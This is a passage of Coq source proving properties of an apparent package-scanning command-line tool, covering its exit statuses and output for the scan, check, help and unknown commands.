     = (1%Z, bannerLines ++ [RunningQuickCheck; ErrorLine TypeError])
  /\ (exists r, scanNodeModules oddPackage nodeModules = Ok [r]
                /\ overallRisk r = LOW)
  /\ run segments oddPackage ["scan"; "node_modules"]%string
     = (1%Z, bannerLines ++ [ScanningTree "node_modules"; ErrorLine TypeError]).
Proof.
  split; [eexists; split; [vm_compute; reflexivity|split; reflexivity]|].
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split; [eexists; split; [vm_compute; reflexivity|reflexivity]|].
  vm_compute; reflexivity.
Qed.

(** X19: without a command and with [help] the program writes the banner
    and the help and ends with status 0, whatever the file system holds;
    with a command other than [scan], [check] and [help] it writes the
    banner, the unknown command and the help and exits with status 1. *)
Theorem other_commands resolve fs command rest :
  command <> EmptyString -> command <> "help"%string ->
  command <> "scan"%string -> command <> "check"%string ->
  run resolve fs (command :: rest)
  = (1%Z, bannerLines ++ [UnknownCommand command] ++ helpLines)
  /\ run resolve fs [] = (0%Z, bannerLines ++ helpLines)
  /\ run resolve fs ("help"%string :: rest) = (0%Z, bannerLines ++ helpLines).
Proof.
  intros N H S C. split; [|split; reflexivity].
  unfold run, main. cbn [nth_error]. rewrite (argument_or_given command _ N).
  cbv zeta.
  apply String.eqb_neq in N, H, S, C. rewrite N, H, S, C. reflexivity.
Qed.

Lemma other_commands_witness :
  run segments mixedTree ["audit"%string]
  = (1%Z, bannerLines ++ [UnknownCommand "audit"%string] ++ helpLines).
Proof.
  apply (other_commands segments mixedTree "audit"%string []); discriminate.
Defined.
